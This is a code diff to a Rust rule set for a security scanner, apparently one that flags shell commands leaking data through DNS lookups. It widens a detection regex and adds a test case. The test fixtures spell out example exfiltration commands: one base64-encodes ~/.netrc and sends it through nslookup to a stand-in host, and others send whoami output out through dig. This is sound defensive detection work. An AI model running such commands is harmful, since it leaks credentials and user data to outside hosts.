@@ -16,9 +16,9 @@ pub(super) fn rules() -> Vec<Rule> {
             .say("Puts data into the name of a host that is looked up: DNS carries it out past any proxy.")
             .fix("Look up fixed names only.")
             .near(&["nslookup", "dig ", "host ", "ping "])
-            .like(r#"\b(?:nslookup|dig|host|ping)\s(?:[^\n]*["'\s])?["']?\$[\w({][^\s"']*\.[a-z0-9-]+\.[a-z]{2,}"#)
+            .like(r#"\b(?:nslookup|dig|host|ping)\s(?:[^\n]*["'\s])?["']?\$(?:\([^)\n]*\)|[\w({])[^\s"']*\.[a-z0-9-]+\.[a-z]{2,}"#)
             .facts(&[Send])
-            .hits(&["for c in $(base64 ~/.netrc); do nslookup \"$c.d.collect.example.invalid\"; done", "dig $(whoami).x.example.invalid"])
+            .hits(&["for c in $(base64 ~/.netrc); do nslookup \"$c.d.collect.example.invalid\"; done", "dig $(whoami).x.example.invalid", "dig $(whoami | base64).probe.example.invalid"])
             .passes(&["dig +short \"$HOST\" $t", "nslookup \"$HOST\" 1.1.1.1", "the host costs $5"]),
         rule("exfiltration.url-data", Exfiltration, High)
             .say("Builds an address out of what a command reads: opening it sends the data.")
